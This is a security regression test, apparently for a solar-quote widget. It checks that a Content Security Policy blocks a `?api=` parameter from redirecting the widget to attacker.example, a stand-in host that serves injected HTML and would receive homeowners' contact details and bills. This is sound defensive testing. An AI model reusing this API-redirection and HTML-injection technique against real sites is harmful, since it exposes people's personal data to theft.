// The widget served by the platform reads its API's address from `?api=` (for a copy hosted elsewhere). Its page
// allowed connections to any https origin, so a link to the platform's own widget page with `&api=https://<attacker>`
// made the widget, on the platform's origin, take its partner name, logo, colours and side panel (written into the
// page as HTML) from the attacker and send the homeowner's name, email, phone, address and bill there
// (docs/security.md "Fourth pass"). In Chromium with the page's real CSP: the widget served by the platform connects to
// its own origin only; the attacker's host gets no request and nothing of its content shows.
import assert from "node:assert/strict";
import { attackerApi } from "./helpers.ts";
import { withStackAndBrowser } from "./with_stack.ts";

Deno.test({
  name: "widget served by the platform: ?api= pointing elsewhere reaches nothing (CSP connect-src)",
  sanitizeResources: false,
  sanitizeOps: false,
}, async () => {
  await withStackAndBrowser({}, async (stack, browser) => {
    const page = await browser.newPage({ viewport: { width: 800, height: 700 } });
    try {
      // The attacker's API: whatever reaches it is answered as the platform would, with its own partner panel.
      const reached = await attackerApi(page, "https://attacker.example", {
        partner_name: "Attacker Solar",
        widget_info: '<p id="attacker-panel">Call 555 0199 now</p>',
        serving_states: ["CA"],
        roof_types: ["Shingle"],
        theme: {},
      });
      await page.goto(
        `${stack.url}/widget/?token=${encodeURIComponent(stack.token)}&api=${
          encodeURIComponent("https://attacker.example")
        }`,
      );
      await page.waitForSelector("body[data-ready], main.screen", { timeout: 30_000 });
      await page.waitForTimeout(1000);
      assert.deepEqual(reached, [], "the attacker's host got requests");
      assert.equal(await page.locator("#attacker-panel").count(), 0);
      assert.ok(!(await page.content()).includes("Attacker Solar"));
      // The same page without ?api= still works against the platform.
      await page.goto(`${stack.url}/widget/?token=${encodeURIComponent(stack.token)}`);
      await page.waitForSelector("body[data-ready]");
      assert.deepEqual(reached, []);
    } finally {
      await page.close();
    }
  });
});
